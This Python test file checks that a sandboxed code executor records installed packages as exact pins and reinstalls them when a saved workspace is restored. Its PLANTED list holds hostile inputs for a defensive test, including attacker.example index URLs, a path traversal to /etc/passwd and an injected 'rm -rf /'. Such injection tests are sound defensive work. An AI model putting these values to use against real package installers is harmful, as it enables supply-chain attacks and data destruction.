"""Packages a session installed come back with its workspace: the snapshot records them as
`name==version`, the next session installs exactly those again before its variables load
(they may be of the packages' classes), and the restore note says what came back and what
could not, and why. The record is untrusted (a sandbox writes it, a store keeps it): only
pins reach pip, whatever was planted."""

from __future__ import annotations

import asyncio
import dataclasses
from collections.abc import AsyncIterator
from datetime import timedelta
from pathlib import Path

import pytest

from bot.sandbox_words import restored, spoken
from bot.workspaces import StoredWorkspaces
from executor import Executor, PoolSettings, SandboxLimits, Status, wire
from executor.fake_backend import FakeBackend, FakeRun
from executor.workspace import Workspace, WorkspaceSettings, pack, unpack
from storage.local import LocalStorage

SECRET = b"k" * 32
PINS = ("cmdemo_pure==1.0", "cmdemo_fast==1.0")
ALLOWLIST = SandboxLimits(timeout_s=5, egress="allowlist")


@pytest.fixture
def backend() -> FakeBackend:
    return FakeBackend(
        {
            "%pip install cmdemo-pure cmdemo-fast": FakeRun(installs=PINS),
            "point = Point(1, 2)": FakeRun(assigns={"point": "Point(1, 2)"}),
            "print(point)": FakeRun(shows="point"),
        }
    )


@pytest.fixture
def storage(tmp_path: Path) -> LocalStorage:
    return LocalStorage(tmp_path / "files", SECRET)


def executor(backend: FakeBackend, storage: LocalStorage, limits: SandboxLimits) -> Executor:
    return Executor(
        "fake",
        limits=limits,
        backend=backend,
        pool=PoolSettings(size=0, idle_timeout_s=0.05),
        workspaces=StoredWorkspaces(storage, SECRET, timedelta(days=7)),
        workspace_settings=WorkspaceSettings(),
    )


@pytest.fixture
async def allowlist(backend: FakeBackend, storage: LocalStorage) -> AsyncIterator[Executor]:
    async with executor(backend, storage, ALLOWLIST) as ex:
        yield ex


async def installed_then_ended(ex: Executor, key: str) -> None:
    session = ex.session(key)
    assert (await session.run("%pip install cmdemo-pure cmdemo-fast")).status is Status.OK
    assert (await session.run("point = Point(1, 2)")).status is Status.OK
    await ended_idle(ex)


async def ended_idle(ex: Executor) -> None:
    """Past the idle timeout: every session ends, and its workspace is saved."""
    await asyncio.sleep(0.1)
    await ex.sessions.reap()
    await asyncio.gather(*ex.sessions._saving.values())
    assert ex.sessions.active == []


async def test_the_packages_come_back_before_the_variables(
    allowlist: Executor, backend: FakeBackend
) -> None:
    await installed_then_ended(allowlist, "conv")
    back = spoken(await allowlist.session("conv").run("print(point)"))
    assert back.status is Status.OK, back.message
    assert back.stdout == "Point(1, 2)\n"
    assert backend.installs == [list(PINS)]  # once, exactly the pins, no resolving
    assert "Restored your workspace from a moment ago: point." in back.message
    assert "Installed its packages again: cmdemo_pure==1.0, cmdemo_fast==1.0." in back.message
    again = spoken(await allowlist.session("conv").run("print(point)"))
    assert "Installed" not in again.message
    assert backend.installs == [list(PINS)]


async def test_a_restore_by_command_installs_them_too(
    allowlist: Executor, backend: FakeBackend
) -> None:
    await installed_then_ended(allowlist, "conv")
    said = restored(await allowlist.session("conv").restore())
    assert "Installed its packages again: cmdemo_pure==1.0, cmdemo_fast==1.0." in said
    assert backend.installs == [list(PINS)]


async def test_packages_that_cannot_be_installed_are_named_and_kept_for_next_time(
    backend: FakeBackend, storage: LocalStorage
) -> None:
    async with executor(backend, storage, ALLOWLIST) as ex:
        await installed_then_ended(ex, "conv")
        backend.index = {"cmdemo_pure==1.0"}  # the mirror lost one of them
        back = spoken(await ex.session("conv").run("print(point)"))
        assert back.stdout == "Point(1, 2)\n"  # the rest of the workspace still came back
        assert (
            "Its packages could not be installed again (ERROR: No matching distribution found "
            "for cmdemo_fast==1.0): cmdemo_pure==1.0, cmdemo_fast==1.0." in back.message
        )
        await ended_idle(ex)
        backend.index = None  # back again: the next session installs both
        later = spoken(await ex.session("conv").run("print(point)"))
    assert "Installed its packages again: cmdemo_pure==1.0, cmdemo_fast==1.0." in later.message
    assert backend.installs == [list(PINS), list(PINS)]


async def test_without_network_the_note_says_so_and_nothing_is_asked(
    backend: FakeBackend, storage: LocalStorage
) -> None:
    async with executor(backend, storage, ALLOWLIST) as ex:
        await installed_then_ended(ex, "conv")
    off = dataclasses.replace(ALLOWLIST, egress="off")
    async with executor(backend, storage, off) as ex:
        back = spoken(await ex.session("conv").run("print(point)"))
    assert back.stdout == "Point(1, 2)\n"
    assert "could not be installed again (sandboxes have no network here)" in back.message
    assert backend.installs == []


async def test_a_session_without_packages_installs_nothing(
    allowlist: Executor, backend: FakeBackend
) -> None:
    session = allowlist.session("plain")
    await session.run("point = Point(1, 2)")
    await ended_idle(allowlist)
    back = spoken(await session.run("print(point)"))
    assert "packages" not in back.message
    assert backend.installs == []


PLANTED = [
    "--index-url=http://attacker.example/simple",
    "-e .",
    "pkg @ https://attacker.example/pkg.whl",
    "../../etc/passwd==1",
    "/mnt/data/evil.whl",
    "git+https://attacker.example/x==1",
    "name==1; rm -rf /",
    "name==1 --extra-index-url=http://x",
    "name",
    "name>=1",
    "-r/mnt/data/reqs.txt==1",
    "x" * 200 + "==1",
]


@pytest.mark.parametrize("planted", PLANTED)
def test_only_pins_reach_pip_whatever_is_planted(planted: str) -> None:
    """A record from the sandbox or the store, and an install request, hold pins only."""
    stored = pack(Workspace(created=1.0, packages=("ok==1.0", planted)))
    assert unpack(stored, 10, 10_000_000).packages == ("ok==1.0",)
    event = wire.decode_event({"type": "snapshot", "id": "i", "packages": ["ok==1.0", planted]})
    assert isinstance(event, wire.SnapshotTaken)
    assert event.packages == ("ok==1.0",)
    request = wire.encode(wire.Install(id="i", packages=("ok==1.0", planted)))
    with pytest.raises(wire.Malformed):
        wire.decode_request(wire.dumps(request))


def test_a_record_is_capped_and_each_pin_listed_once() -> None:
    many = tuple(f"p{i}==1" for i in range(wire.MAX_PACKAGES + 50))
    assert wire.pins(many + many) == many[: wire.MAX_PACKAGES]
    request = wire.encode(wire.Install(id="i", packages=many))
    with pytest.raises(wire.Malformed):
        wire.decode_request(wire.dumps(request))
